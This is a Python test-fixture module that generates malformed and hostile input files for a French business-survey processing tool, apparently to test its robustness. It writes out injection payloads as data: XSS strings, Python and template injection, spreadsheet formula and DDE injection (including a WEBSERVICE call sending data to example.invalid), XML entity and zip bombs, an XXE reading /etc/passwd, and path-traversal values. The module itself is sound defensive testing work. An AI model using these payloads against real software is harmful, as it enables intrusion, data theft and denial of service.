"""Generators of bad inputs: broken, hostile or merely messy files, built on the fly.

Every builder writes one file (or a study setting) into a study folder and returns a
:class:`BadInput` saying where it is and how study.toml declares it. Nothing here is committed
as a binary: workbooks are written with openpyxl, xlsxwriter or xlwt, or assembled as zip
archives by hand; the password-protected workbook is encrypted with msoffcrypto-tool.

The good file of every test study is :func:`write_good_file`: a small, valid company file of
the ``banque`` sector (:data:`GOOD_ROWS` responses), so that a test can check that the other
files of a study are still processed when one is bad.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = [
    "GOOD_FILE",
    "GOOD_ROWS",
    "HEADER",
    "PAYLOADS",
    "BadInput",
    "luhn_siren",
    "write_good_file",
    "write_study",
    "write_xlsx",
]

HEADER = [
    "id_repondant",
    "siren",
    "raison_sociale",
    "email_contact",
    "secteur",
    "naf_code",
    "effectif",
    "departement",
    "date_reponse",
    "statut_reponse",
    "ia_stade",
    "techno",
    "commentaire",
]
GOOD_FILE = "bon.xlsx"
GOOD_ROWS = 4

#: Strings that would do harm if a report, a spreadsheet or a notebook did not escape them.
PAYLOADS = (
    "<script>document.title='xss';alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<a href="javascript:alert(3)">lien</a>',
    "</style><script>alert(4)</script>",
    "{{ 7*7 }}{% raw %}",
    '"); import os; os.system("touch PWNED")#',
    '=HYPERLINK("http://example.invalid/?q="&A1,"clic")',
    '<iframe src="https://example.invalid/"></iframe>',
    "<link rel=stylesheet href=https://example.invalid/x.css>",
)


def luhn_siren(stem: int) -> str:
    """A valid SIREN (nine digits, Luhn key) built from an eight-digit ``stem``."""
    digits = f"{stem:08d}"[:8]
    for last in range(10):
        candidate = digits + str(last)
        total = 0
        for i, ch in enumerate(candidate):
            d = int(ch)
            if i % 2 == 1:
                d *= 2
                d = d - 9 if d > 9 else d
            total += d
        if total % 10 == 0:
            return candidate
    raise AssertionError("unreachable")


def good_rows(prefix: str = "B", n: int = GOOD_ROWS, start: int = 10_000_000) -> list[list[Any]]:
    """``n`` valid company responses of the banque sector."""
    stades = ["veille", "experimentation", "deploiement_partiel", "aucun"]
    rows = []
    for i in range(n):
        rows.append(
            [
                f"{prefix}{i + 1}",
                luhn_siren(start + 7919 * i),
                f"Société {prefix}{i} SA",
                f"contact{i}@{prefix.lower()}.example.com",
                "banque",
                "64.19Z",
                40 + i,
                "59",
                "2019-05-03",
                "complet",
                stades[i % 4],
                "Analyse de texte (fouille de textes)",
                None,
            ]
        )
    return rows


def write_xlsx(
    path: Path,
    header: Sequence[Any] | None,
    rows: Sequence[Sequence[Any]],
    *,
    title: str = "Réponses",
) -> Path:
    """A one-sheet workbook written with openpyxl."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    if header is not None:
        ws.append(list(header))
    for row in rows:
        ws.append(list(row))
    for line in ws.iter_rows():
        for cell in line:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # text as typed, not a formula
    wb.save(path)
    return path


def write_good_file(raw: Path) -> Path:
    """The study's good file: :data:`GOOD_ROWS` valid responses."""
    raw.mkdir(parents=True, exist_ok=True)
    return write_xlsx(raw / GOOD_FILE, HEADER, good_rows())


@dataclass
class BadInput:
    """Where a bad input lives and how study.toml declares it.

    ``file`` is the bad file's name under ``data/raw`` (``None`` when the bad input is the
    configuration itself); ``source`` extra TOML lines of its ``[[sources]]`` entry;
    ``study_toml`` replaces the whole study.toml when set; ``extra_toml`` is appended.
    """

    file: str | None
    source: str = ""
    study_toml: str | None = None
    extra_toml: str = ""


STUDY_HEAD = '[study]\ntitle = "Étude de test"\nregion = "Région test"\nwave = "2019"\n'


def write_study(root: Path, bad: BadInput | None) -> Path:
    """Write study.toml: the good file, then the bad one (when it is a file)."""
    if bad is not None and bad.study_toml is not None:
        (root / "study.toml").write_text(bad.study_toml, encoding="utf-8")
        return root
    parts = [STUDY_HEAD]
    if bad is not None:
        parts.append(bad.extra_toml)
    parts.append(f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nsector = "banque"\n')
    if bad is not None and bad.file is not None:
        parts.append(f"\n[[sources]]\npath = {json.dumps('data/raw/' + bad.file)}\n{bad.source}")
    (root / "study.toml").write_text("".join(parts), encoding="utf-8")
    return root


# --------------------------------------------------------------------------------------------
# Builders: each takes the raw data folder and returns a BadInput


def _zip(path: Path, members: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return path


def _xlsx_bytes(header: Sequence[Any], rows: Sequence[Sequence[Any]]) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, header, rows)  # type: ignore[arg-type]
    return buffer.getvalue()


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def truncated_xlsx(raw: Path) -> BadInput:
    data = _xlsx_bytes(HEADER, good_rows("T"))
    (raw / "tronque.xlsx").write_bytes(data[: len(data) // 2])
    return BadInput("tronque.xlsx")


def corrupt_xlsx(raw: Path) -> BadInput:
    rng = random.Random(1)
    (raw / "corrompu.xlsx").write_bytes(
        b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(4000))
    )
    return BadInput("corrompu.xlsx")


def broken_sheet_xml(raw: Path) -> BadInput:
    members = _members(_xlsx_bytes(HEADER, good_rows("X")))
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"][:300]
    _zip(raw / "xml_casse.xlsx", members)
    return BadInput("xml_casse.xlsx")


def password_xlsx(raw: Path) -> BadInput:
    import msoffcrypto
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = io.BytesIO(_xlsx_bytes(HEADER, good_rows("P")))
    out = io.BytesIO()
    OOXMLFile(plain).encrypt("secret", out)
    (raw / "protege.xlsx").write_bytes(out.getvalue())
    assert msoffcrypto  # the module is the dev dependency that makes the file
    return BadInput("protege.xlsx")


def old_xls(raw: Path) -> BadInput:
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Réponses")
    rows = [HEADER, *good_rows("L", start=30_000_000)]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    book.save(str(raw / "ancien.xls"))
    return BadInput("ancien.xls", 'sector = "banque"\n')


def html_as_xls(raw: Path) -> BadInput:
    (raw / "page.xls").write_text(
        "<html><body><table><tr><td>id_repondant</td><td>secteur</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return BadInput("page.xls")


def binary_csv(raw: Path) -> BadInput:
    rng = random.Random(2)
    data = bytes(rng.randrange(256) for _ in range(3000)) + b"\x00\x00\x01"
    (raw / "binaire.csv").write_bytes(data)
    return BadInput("binaire.csv")


def pdf_as_csv(raw: Path) -> BadInput:
    (raw / "export.csv").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    return BadInput("export.csv")


def empty_xlsx_file(raw: Path) -> BadInput:
    (raw / "vide.xlsx").write_bytes(b"")
    return BadInput("vide.xlsx")


def empty_csv_file(raw: Path) -> BadInput:
    (raw / "vide.csv").write_bytes(b"")
    return BadInput("vide.csv")


def blank_csv(raw: Path) -> BadInput:
    (raw / "blanc.csv").write_text("\n;;;\n\n  \n", encoding="utf-8")
    return BadInput("blanc.csv")


def empty_sheet(raw: Path) -> BadInput:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "Réponses"
    wb.save(raw / "feuille_vide.xlsx")
    return BadInput("feuille_vide.xlsx")


def header_only(raw: Path) -> BadInput:
    write_xlsx(raw / "entete_seul.xlsx", HEADER, [])
    return BadInput("entete_seul.xlsx", 'sector = "banque"\n')


def no_header(raw: Path) -> BadInput:
    write_xlsx(raw / "sans_entete.xlsx", None, [[1, 2, 3, "x"], [4, 5, 6, "y"]] * 3)
    return BadInput("sans_entete.xlsx")


def foreign_header(raw: Path) -> BadInput:
    write_xlsx(
        raw / "autre_enquete.xlsx",
        ["Nom", "Prénom", "Âge", "Ville"],
        [["Dupont", "Jean", 44, "Lille"]],
    )
    return BadInput("autre_enquete.xlsx")


def duplicated_columns(raw: Path) -> BadInput:
    header = [*HEADER, "ia_stade"]
    rows = [[*r, "aucun"] for r in good_rows("D", start=40_000_000)]
    write_xlsx(raw / "colonnes_doubles.xlsx", header, rows)
    return BadInput("colonnes_doubles.xlsx", 'sector = "banque"\n')


def merged_header(raw: Path) -> BadInput:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Réponses"
    ws.append(["Enquête IA 2019", None, None, None])
    ws.merge_cells("A1:D1")
    ws.append(["id_repondant", "secteur", "Technologies", None])
    ws.merge_cells("C2:D2")
    ws.append(["M1", "banque", "oui", "non"])
    ws.append(["M2", "banque", "non", "oui"])
    # the size is needed to keep the rows: taille is required
    ws["E2"] = "taille"
    ws["E3"] = "pme"
    ws["E4"] = "tpe"
    wb.save(raw / "entete_fusionne.xlsx")
    return BadInput("entete_fusionne.xlsx")


def hidden_sheet_and_rows(raw: Path) -> BadInput:
    from openpyxl import Workbook

    wb = Workbook()
    hidden = wb.active
    hidden.title = "ancienne version"
    hidden.append(HEADER)
    for row in good_rows("OLD", n=9, start=50_000_000):
        hidden.append(row)
    hidden.sheet_state = "hidden"
    ws = wb.create_sheet("Réponses")
    ws.append(HEADER)
    for row in good_rows("H", n=3, start=60_000_000):
        ws.append(row)
    ws.row_dimensions[3].hidden = True
    wb.save(raw / "caches.xlsx")
    return BadInput("caches.xlsx", 'sector = "banque"\n')


def formulas(raw: Path) -> BadInput:
    import xlsxwriter

    path = raw / "formules.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("Réponses")
    for c, name in enumerate(HEADER):
        sheet.write_string(0, c, name)
    for r, row in enumerate(good_rows("F", n=2, start=70_000_000), start=1):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    effectif = HEADER.index("effectif")
    comment = HEADER.index("commentaire")
    # cached values that differ from what the formulas would compute: only a reader that
    # evaluated formulas would see 10 or a web request
    sheet.write_formula(1, effectif, "=2*5", None, 42)
    sheet.write_formula(2, effectif, "=SUM(A1:A2)", None, 77)
    sheet.write_formula(
        1, comment, '=WEBSERVICE("http://example.invalid/fuite")', None, "valeur en cache"
    )
    book.close()
    return BadInput("formules.xlsx", 'sector = "banque"\n')


def too_large(raw: Path) -> BadInput:
    line = ";".join(["B1", "banque", "pme", "veille"]) + "\n"
    (raw / "enorme.csv").write_text("id_repondant;secteur;taille;ia_stade\n" + line * 3000)
    return BadInput("enorme.csv", extra_toml="[input]\nmax_file_mb = 0.05\n")


_BOMB = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)


def entity_bomb(raw: Path) -> BadInput:
    members = _members(_xlsx_bytes(HEADER, good_rows("E")))
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    body = sheet.split("?>", 1)[1] if sheet.startswith("<?") else sheet
    body = body.replace("<v>", "<v>&lol9;", 1) if "<v>" in body else body
    members["xl/worksheets/sheet1.xml"] = (_BOMB + body).encode("utf-8")
    _zip(raw / "bombe_xml.xlsx", members)
    return BadInput("bombe_xml.xlsx")


def entity_bomb_shared_strings(raw: Path) -> BadInput:
    members = _members(_xlsx_bytes(HEADER, good_rows("S")))
    members["xl/sharedStrings.xml"] = (
        _BOMB + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode("utf-8")
    _zip(raw / "bombe_chaines.xlsx", members)
    return BadInput("bombe_chaines.xlsx")


def external_entity(raw: Path) -> BadInput:
    members = _members(_xlsx_bytes(HEADER, good_rows("Y")))
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    body = sheet.split("?>", 1)[1] if sheet.startswith("<?") else sheet
    members["xl/worksheets/sheet1.xml"] = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body
    ).encode("utf-8")
    _zip(raw / "entite_externe.xlsx", members)
    return BadInput("entite_externe.xlsx")


def zip_bomb(raw: Path) -> BadInput:
    members: dict[str, bytes | str] = dict(_members(_xlsx_bytes(HEADER, good_rows("Z"))))
    members["xl/media/image1.bin"] = b"\x00" * (24 * 1024 * 1024)
    _zip(raw / "bombe_zip.xlsx", members)
    return BadInput("bombe_zip.xlsx", extra_toml="[input]\nmax_file_mb = 0.2\n")


def wrong_encoding_declared(raw: Path) -> BadInput:
    text = "id_repondant;secteur;taille;ia_stade;commentaire\nW1;banque;pme;veille;Très bien, déjà fait\n"
    (raw / "bom_menteur.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("cp1252"))
    return BadInput("bom_menteur.csv")


def windows_1252_csv(raw: Path) -> BadInput:
    text = (
        "id_repondant;secteur;taille;ia_stade;commentaire\n"
        "C1;Banque;PME;Veille, réflexion;Très intéressé\n"
        "C2;banque;TPE;aucun;Déjà équipé\n"
    )
    (raw / "ancien_excel.csv").write_bytes(text.encode("cp1252"))
    return BadInput("ancien_excel.csv")


def utf16_csv(raw: Path) -> BadInput:
    text = "id_repondant\tsecteur\ttaille\tia_stade\nU1\tBanque\tPME\tveille\n"
    (raw / "unicode.csv").write_bytes(text.encode("utf-16"))
    return BadInput("unicode.csv")


def unbalanced_quotes(raw: Path) -> BadInput:
    text = 'id_repondant;secteur;taille;ia_stade\nQ1;banque;pme;"veille\nQ2;banque;tpe;aucun\n'
    (raw / "guillemets.csv").write_text(text, encoding="utf-8")
    return BadInput("guillemets.csv")


def workbook_named_csv(raw: Path) -> BadInput:
    (raw / "deguise.csv").write_bytes(_xlsx_bytes(HEADER, good_rows("G", start=80_000_000)))
    return BadInput("deguise.csv", 'sector = "banque"\n')


def three_date_formats(raw: Path) -> BadInput:
    rows = good_rows("T3", n=4, start=81_000_000)
    col = HEADER.index("date_reponse")
    rows[0][col] = "2019-05-03"
    rows[1][col] = "03/05/2019"
    rows[2][col] = 43588  # Excel serial of 2019-05-03
    rows[3][col] = "31/02/2019"  # no such day
    write_xlsx(raw / "dates.xlsx", HEADER, rows)
    return BadInput("dates.xlsx", 'sector = "banque"\n')


def out_of_range(raw: Path) -> BadInput:
    rows = good_rows("R", n=3, start=82_000_000)
    rows[1][HEADER.index("effectif")] = -12
    write_xlsx(raw / "hors_plage.xlsx", HEADER, rows)
    return BadInput("hors_plage.xlsx", 'sector = "banque"\n')


def unknown_code(raw: Path) -> BadInput:
    rows = good_rows("K", n=3, start=83_000_000)
    rows[2][HEADER.index("ia_stade")] = "peut-être bientôt"
    write_xlsx(raw / "code_inconnu.xlsx", HEADER, rows)
    return BadInput("code_inconnu.xlsx", 'sector = "banque"\n')


def naf_against_sector(raw: Path) -> BadInput:
    rows = good_rows("N", n=3, start=84_000_000)
    rows[1][HEADER.index("naf_code")] = "62.01Z"  # software publishing, in a banque file
    write_xlsx(raw / "naf.xlsx", HEADER, rows)
    return BadInput("naf.xlsx", 'sector = "banque"\n')


def conflicting_duplicates(raw: Path) -> BadInput:
    rows = good_rows("U", n=3, start=85_000_000)
    twin = list(rows[0])
    twin[0] = "U9"
    twin[HEADER.index("ia_stade")] = "aucun"
    twin[HEADER.index("date_reponse")] = "2019-06-20"
    rows.append(twin)
    write_xlsx(raw / "doublons.xlsx", HEADER, rows)
    return BadInput("doublons.xlsx", 'sector = "banque"\n')


def required_missing(raw: Path) -> BadInput:
    rows = good_rows("V", n=3, start=86_000_000)
    rows[2][HEADER.index("secteur")] = None
    rows[2][HEADER.index("naf_code")] = None
    rows[2][HEADER.index("effectif")] = None
    write_xlsx(raw / "obligatoire.xlsx", HEADER, rows)
    return BadInput("obligatoire.xlsx")


def a_folder(raw: Path) -> BadInput:
    (raw / "dossier.xlsx").mkdir()
    return BadInput("dossier.xlsx")


def unknown_sheet(raw: Path) -> BadInput:
    write_xlsx(raw / "feuille.xlsx", HEADER, good_rows("W", start=87_000_000))
    return BadInput("feuille.xlsx", 'sheet = "Feuil9"\n')


def header_row_too_far(raw: Path) -> BadInput:
    write_xlsx(raw / "ligne.xlsx", HEADER, good_rows("J", start=88_000_000))
    return BadInput("ligne.xlsx", "header_row = 40\n")


def study_typo(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD.replace("region", "regoin")
        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'),
    )


def study_unknown_sector(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD
        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nsector = "banqe"\n'),
    )


def study_missing_file(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD
        + (
            f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'
            '\n[[sources]]\npath = "data/raw/absent.xlsx"\n'
        ),
    )


def study_bad_toml(raw: Path) -> BadInput:
    return BadInput(None, study_toml=STUDY_HEAD + '\n[[sources]]\npath = "data/raw/bon.xlsx\n')


def study_unknown_profile(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD
        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nprofile = "limesurvay"\n'),
    )


def study_wave_escape(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD.replace('"2019"', '"../../hors_etude"')
        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'),
    )


def study_sector_escape(raw: Path) -> BadInput:
    return BadInput(
        None,
        study_toml=STUDY_HEAD
        + (
            '\n[sectors."../evil"]\nlabel = "x"\nnaf = ["64.19Z"]\n'
            f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'
        ),
    )


# --------------------------------------------------------------------------------------------
# Whole studies


def copy_sample_study(repo: Path, destination: Path) -> Path:
    """A copy of the repository's sample study (study.toml, data/raw, data/reference)."""
    import shutil

    destination.mkdir(parents=True, exist_ok=True)
    shutil.copy2(repo / "study.toml", destination / "study.toml")
    for part in ("raw", "reference"):
        shutil.copytree(repo / "data" / part, destination / "data" / part)
    return destination


HOSTILE_FILE = "<img src=x onerror=alert(7)>.xlsx"
DDE_PAYLOAD = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMENT_MARK = "COMMENTAIRE-LIBRE-"
NAME_MARK = "RAISON-SECRETE-"


def _toml(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


def make_hostile_study(repo: Path, destination: Path) -> Path:
    """The sample study with a payload of :data:`PAYLOADS` in every text a person can type.

    * study.toml: title, region and the labels of the banque and logiciel sectors (HTML and
      Python), industrie and assurance (spreadsheet formulas);
    * banque.xlsx: ``commentaire`` (marked :data:`COMMENT_MARK`), ``raison_sociale`` (marked
      :data:`NAME_MARK`), answers outside the lists (``fonction_repondant``), respondent ids
      that look like paths or reserved names;
    * logiciel.xlsx renamed :data:`HOSTILE_FILE`.
    """
    from openpyxl import load_workbook

    from iaobs.study.dictionary import load_dictionary

    root = copy_sample_study(repo, destination)
    raw = root / "data" / "raw" / "2019"
    book = load_workbook(raw / "banque.xlsx")
    sheet = book["Réponses"]
    header_row = next(r for r in range(1, 30) if "commentaire" in [c.value for c in sheet[r]])
    names = {c.value: c.column for c in sheet[header_row]}
    for i, r in enumerate(range(header_row + 1, sheet.max_row + 1)):
        payload = PAYLOADS[i % len(PAYLOADS)]
        if sheet.cell(r, names["secteur"]).value is None:
            continue
        sheet.cell(r, names["secteur"]).value = "banque"
        sheet.cell(r, names["commentaire"]).value = f"{COMMENT_MARK}{i} {payload}"
        sheet.cell(r, names["raison_sociale"]).value = f"{NAME_MARK}{i} {payload}"
        if i < 12:
            sheet.cell(r, names["fonction_repondant"]).value = payload
        if i < 3:
            sheet.cell(r, names["id_repondant"]).value = ["../../../etc/passwd", "CON", payload][i]
    book.save(raw / "banque.xlsx")
    (raw / "logiciel.xlsx").rename(raw / HOSTILE_FILE)

    sectors = load_dictionary("entreprises").sectors
    text = (root / "study.toml").read_text("utf-8")
    text = text.replace(
        'path = "data/raw/2019/logiciel.xlsx"', f"path = {_toml('data/raw/2019/' + HOSTILE_FILE)}"
    )
    head, sources = text.split("[[sources]]", 1)
    head = head.replace(
        'title = "Observatoire régional de l\'intelligence artificielle et des compétences"',
        f"title = {_toml('Observatoire ' + PAYLOADS[0] + ' ' + PAYLOADS[4])}",
    ).replace('region = "Hauts-de-France"', f"region = {_toml('Région ' + PAYLOADS[1])}")
    blocks = []
    for code, sector in sectors.items():
        label = sector.label.fr
        if code == "banque":
            label = f"Banque {PAYLOADS[5]} {PAYLOADS[3]}"
        elif code == "logiciel":
            label = f"Logiciel {PAYLOADS[2]} {PAYLOADS[7]}"
        elif code == "industrie":
            label = PAYLOADS[6]  # a formula, for the Excel and CSV exports
        elif code == "assurance":
            label = DDE_PAYLOAD
        blocks.append(
            f"[sectors.{code}]\nlabel = {_toml(label)}\n"
            f"naf = [{', '.join(_toml(n) for n in sector.naf)}]\n"
        )
    (root / "study.toml").write_text(
        head + "\n".join(blocks) + "\n[[sources]]" + sources, encoding="utf-8"
    )
    return root
